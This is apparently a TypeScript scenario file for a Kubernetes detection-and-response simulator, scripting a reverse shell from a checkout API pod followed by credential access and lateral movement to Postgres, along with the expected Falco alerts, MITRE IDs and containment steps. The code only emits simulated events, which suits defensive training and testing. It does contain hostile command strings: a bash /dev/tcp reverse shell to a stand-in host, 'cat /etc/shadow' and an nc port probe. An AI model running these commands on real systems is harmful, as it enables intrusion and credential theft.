import { RULES } from '../../falco/rules.js';
import type { ScenarioDefinition, ScenarioRun } from '../kit.js';

const C2 = { name: '203.0.113.66', ip: '203.0.113.66', port: 4444, protocol: 'TCP' as const };

export const reverseShell: ScenarioDefinition = {
  info: {
    name: 'reverse-shell',
    title: 'Reverse shell from the checkout API, then lateral movement to Postgres',
    description:
      'A deserialization bug in api/checkout (Java) gives the attacker a reverse shell to 203.0.113.66:4444. They upgrade it to a TTY, read /etc/shadow and the service-account token, probe postgres.data:5432 with nc and pull data from it. The shell reconnects every iteration.',
    expected: {
      falcoRules: [RULES.redirectToNetwork.rule, RULES.terminalShell.rule, RULES.sensitiveFile.rule, RULES.networkTool.rule],
      audit: [],
      flows: ['api/checkout pod → 203.0.113.66:4444 (C2, every iteration)', 'api/checkout pod → data/postgres:5432 (lateral movement, allowed by data/postgres-ingress)', 'DROPPED (POLICY_DENIED) instead once egress is denied'],
      mitre: ['T1190', 'T1059.004', 'T1003.008', 'T1046', 'T1021'],
    },
    containment: [
      'NetworkPolicy denying egress of the pod: C2 and Postgres flows become DROPPED and the network alerts stop',
      'Delete the pod: everything stops; the replacement pod is clean',
    ],
    actor: { namespace: 'api', workload: 'checkout', kind: 'Deployment', container: 'checkout', serviceAccount: 'checkout' },
  },
  start(run: ScenarioRun) {
    run.deps.traffic.topology.registerExternal(C2);
    const pod = run.chooseTarget('api', 'checkout');
    if (!pod) {
      run.phase('no target pod');
      return;
    }
    const javaPid = 1;
    const shellCmd = `sh -c bash -i >& /dev/tcp/${C2.ip}/${C2.port} 0>&1`;
    const base = { 'user.name': 'app', 'user.uid': 1001 };
    const openShell = (): boolean => {
      const target = run.target();
      if (!target) return false;
      const result = run.connect(target, C2.ip, C2.port);
      const container = run.container(target);
      if (container) {
        container.extraConnections = container.extraConnections.filter((c) => c.remotePort !== C2.port);
        if (result.verdict === 'allowed' && !container.processes.some((p) => p.command === 'bash -i')) run.sim.runtime.addProcess(container, 'bash -i', 'app', 0, 4, javaPid);
        const shell = container.processes.find((p) => p.command === 'bash -i');
        container.extraConnections.push({ proto: 'tcp', localIp: '', localPort: 51_244, remoteIp: C2.ip, remotePort: C2.port, state: result.verdict === 'allowed' ? 'ESTABLISHED' : 'SYN_SENT', pid: shell?.pid ?? javaPid, program: 'bash' });
      }
      if (result.verdict !== 'allowed') return false;
      const local = `${target.status?.podIP}:51244`;
      run.alert(RULES.redirectToNetwork, target, { ...base, 'evt.type': 'dup2', 'proc.name': 'bash', 'proc.exepath': '/usr/bin/bash', 'proc.pname': 'java', 'proc.cmdline': shellCmd, 'fd.name': `${local}->${C2.ip}:${C2.port}`, 'fd.sip': C2.ip, 'fd.rport': C2.port, 'fd.l4proto': 'tcp' });
      return true;
    };

    run.phase('exploitation');
    run.container(pod)?.logs.push(
      { timeMs: Date.now(), text: `${new Date().toISOString()} ERROR 1 --- [checkout] [nio-8080-exec-7] o.a.c.c.C.[.[.[/].[dispatcherServlet]      : Servlet.service() threw exception: java.io.InvalidClassException: filter status: REJECTED` },
      { timeMs: Date.now() + 1, text: '\tat java.base/java.io.ObjectInputStream.filterCheck(ObjectInputStream.java:1412)' },
    );
    run.after(1000, () => {
      run.phase('reverse shell');
      if (!openShell()) return;
      run.after(3000, () => {
        const target = run.target();
        if (!target) return;
        run.phase('tty upgrade');
        run.alert(RULES.terminalShell, target, { ...base, 'evt.type': 'execve', 'proc.name': 'bash', 'proc.exepath': '/usr/bin/bash', 'proc.pname': 'python3', 'proc.cmdline': 'bash', 'proc.tty': 34817 });
      });
      run.after(5000, () => {
        const target = run.target();
        if (!target) return;
        run.phase('credential access');
        run.alert(RULES.sensitiveFile, target, { ...base, 'evt.type': 'openat', 'proc.name': 'cat', 'proc.exepath': '/usr/bin/cat', 'proc.pname': 'bash', 'proc.cmdline': 'cat /etc/shadow', 'fd.name': '/etc/shadow', 'proc.tty': 34817 });
      });
      run.after(7000, () => {
        const target = run.target();
        if (!target) return;
        run.phase('lateral movement');
        run.alert(RULES.networkTool, target, { ...base, 'evt.type': 'execve', 'proc.name': 'nc', 'proc.exepath': '/usr/bin/nc', 'proc.pname': 'bash', 'proc.cmdline': 'nc -zv postgres.data.svc.cluster.local 5432', 'proc.tty': 34817 });
        run.connect(target, 'postgres.data.svc.cluster.local', 5432);
      });
    });

    run.every(10_000, () => {
      const target = run.target();
      if (!target) {
        run.setContained(true, 'compromised pod deleted');
        run.phase('contained: pod gone');
        return;
      }
      const connected = openShell();
      const lateral = run.connect(target, 'postgres.data.svc.cluster.local', 5432);
      if (connected) {
        run.setContained(false);
        run.phase(lateral.verdict === 'allowed' ? 'exfiltrating from postgres' : 'shell active');
      } else {
        run.setContained(true, 'egress to the C2 server denied by NetworkPolicy');
        run.phase('contained: egress blocked');
      }
    });
  },
};
